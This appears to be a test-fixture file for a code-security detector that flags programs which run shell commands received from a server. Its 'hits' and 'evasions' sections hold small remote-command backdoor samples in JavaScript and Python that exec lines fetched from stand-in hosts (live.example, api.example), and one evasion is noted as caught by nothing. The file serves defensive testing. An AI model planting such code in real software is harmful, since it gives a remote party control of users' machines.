import type { Examples } from "@doorward/core";

/** Programs that do what a server says, and programs that start what the code names. */
export const examples: Examples = {
  hits: [
    {
      name: "a socket that brings commands",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { io } = require("socket.io-client");
const { exec } = require("child_process");
const socket = io("https://live.example");
socket.on("command", (message) => exec(message.line));
`,
      },
    },
    {
      name: "a program that asks for its next command",
      files: {
        "main.py": `import requests, subprocess
while True:
    task = requests.get("https://api.example/check").json()
    subprocess.run(task["line"], shell=True)
`,
      },
    },
    {
      name: "a connection of one's own kind",
      files: {
        "main.py": `import socket, os
link = socket.socket()
link.connect(("live.example", 1224))
os.system(link.recv(4096).decode())
`,
      },
    },
  ],
  misses: [
    {
      name: "an answer as an argument of a program that the code names",
      why: "The code names the program; the answer is a value for it.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { exec } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.json()).then(({ version }) => exec("git checkout " + version));
`,
      },
    },
    {
      name: "a download program",
      why: "The command stands in the code.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `require("child_process").execSync("curl -s https://api.example/check");
`,
      },
    },
    {
      name: "a request whose answer is shown",
      why: "The answer is data, and nothing of it is run.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then((data) => console.log(data.price));
`,
      },
    },
    {
      name: "a tool that starts what its user types",
      why: "The command comes from the person at the keyboard.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { exec } = require("child_process");
exec(process.argv[2]);
`,
      },
    },
  ],
  evasions: [
    {
      name: "a program with an empty shell in front",
      caughtBy: "nothing",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { exec } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.text()).then((line) => exec("sh -c '" + line + "'"));
`,
      },
    },
  ],
};
